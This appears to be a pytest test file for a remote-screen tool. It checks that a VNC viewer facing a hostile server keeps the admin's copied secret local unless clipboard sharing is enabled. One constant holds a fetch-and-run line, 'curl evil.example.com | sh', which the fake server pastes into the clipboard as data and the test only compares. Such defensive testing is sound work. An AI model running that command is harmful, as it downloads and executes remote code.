"""The real viewer, and a hostile remote's screen: what was copied on the admin's machine stays there."""

from __future__ import annotations

import asyncio
import os
import struct
import subprocess
from collections.abc import Iterator
from contextlib import suppress

import pytest

from sra.admin.screen.viewer import ViewerCredential, running, tigervnc
from sra.admin.screen.viewer_socket import open_door
from sra.remote.screen_sharing.wayland import wayvnc_proxy
from sra.transport.stream import Stream
from tests.loopback import until

SECRET, MADE_UP = b"correct horse battery staple", b"curl evil.example.com | sh"
TITLE = "a hostile screen"
CUT_TEXT, KEY = 6, 4
SIZES = {0: 20, 3: 10, KEY: 8, 5: 6, 150: 10}
"""Bytes of the client's messages of a fixed length (RFC 6143, 7.5, and the community's extensions)."""
DEADLINE = 20.0


class HostileScreen:
    """A server that notes what the viewer sends."""

    def __init__(self, stream: Stream) -> None:
        self.stream = stream
        self.keys = 0
        self.cut_texts: list[bytes] = []

    async def begin(self) -> None:
        async def anything(_: wayvnc_proxy.LoginClaim) -> bool:
            return True

        await wayvnc_proxy.admit(self.stream, anything)
        self.stream.write(bytes(4))
        await self.stream.read(1, DEADLINE)
        pixels = struct.pack(">BBBBHHHBBBxxx", 32, 24, 0, 1, 255, 255, 255, 16, 8, 0)
        self.stream.write(struct.pack(">HH", 320, 240) + pixels + struct.pack(">I", len(TITLE)) + TITLE.encode())

    async def listen(self) -> None:
        while True:
            kind = (await self.stream.read(1, 1000.0))[0]
            if kind == 2:  # SetEncodings
                (count,) = struct.unpack(">xH", await self.stream.read(3, DEADLINE))
                await self.stream.read(4 * count, DEADLINE)
            elif kind == CUT_TEXT:
                (length,) = struct.unpack(">xxxi", await self.stream.read(7, DEADLINE))
                self.cut_texts.append(await self.stream.read(abs(length), DEADLINE))
            else:
                await self.stream.read(SIZES[kind] - 1, DEADLINE)
                self.keys += kind == KEY

    def paste(self) -> None:
        self.stream.write(struct.pack(">BxxxI", 3, len(MADE_UP)) + MADE_UP)


@pytest.fixture
def display(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """A screen of the admin's own."""
    reading, writing = os.pipe()
    command = ["Xvfb", "-displayfd", str(writing), "-screen", "0", "640x480x24", "-nolisten", "tcp", "-noreset"]
    server = subprocess.Popen(command, pass_fds=[writing], stderr=subprocess.DEVNULL)
    os.close(writing)
    with os.fdopen(reading) as number:
        monkeypatch.setenv("DISPLAY", f":{number.readline().strip()}")
    yield
    server.terminate()
    server.wait()


def copy(selection: str) -> None:
    command = ["xclip", "-selection", selection, "-in"]
    subprocess.run(command, input=SECRET, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


async def copied() -> bytes:
    return (await asyncio.to_thread(subprocess.run, ["xclip", "-selection", "clipboard", "-out"], capture_output=True,
                                    check=False)).stdout  # fmt: skip


async def typed(screen: HostileScreen) -> None:
    """Press a key until it has arrived: what was to come before has come, too."""
    before = screen.keys
    while screen.keys == before:
        await asyncio.to_thread(
            subprocess.run, ["xdotool", "search", "--name", TITLE, "windowfocus", "key", "a"],
            check=False, capture_output=True,
        )  # fmt: skip
        await asyncio.sleep(0.1)


@pytest.mark.usefixtures("display")
@pytest.mark.parametrize("clipboard", [False, True], ids=["by default", "where the person wants it"])
async def test_what_is_copied_here_is_sent_to_no_remote_unless_the_person_wants_it(clipboard: bool) -> None:
    with open_door(by_path=True) as door:
        viewer = tigervnc(view_only=False, clipboard=True) if clipboard else tigervnc(view_only=False)
        async with running(viewer, door, ViewerCredential("screen", "password")):
            screen = HostileScreen(await door.accept())
            await screen.begin()
            listening = asyncio.create_task(screen.listen())
            await typed(screen)
            for selection in ("clipboard", "primary"):
                await asyncio.to_thread(copy, selection)
                await typed(screen)
            if clipboard:
                await until(lambda: SECRET in b"".join(screen.cut_texts))
            screen.paste()
            await typed(screen)
            await asyncio.sleep(0.3)
            assert (SECRET in b"".join(screen.cut_texts)) is clipboard
            assert await copied() == (MADE_UP if clipboard else SECRET)
            listening.cancel()
            with suppress(asyncio.CancelledError):
                await listening
            screen.stream.close()
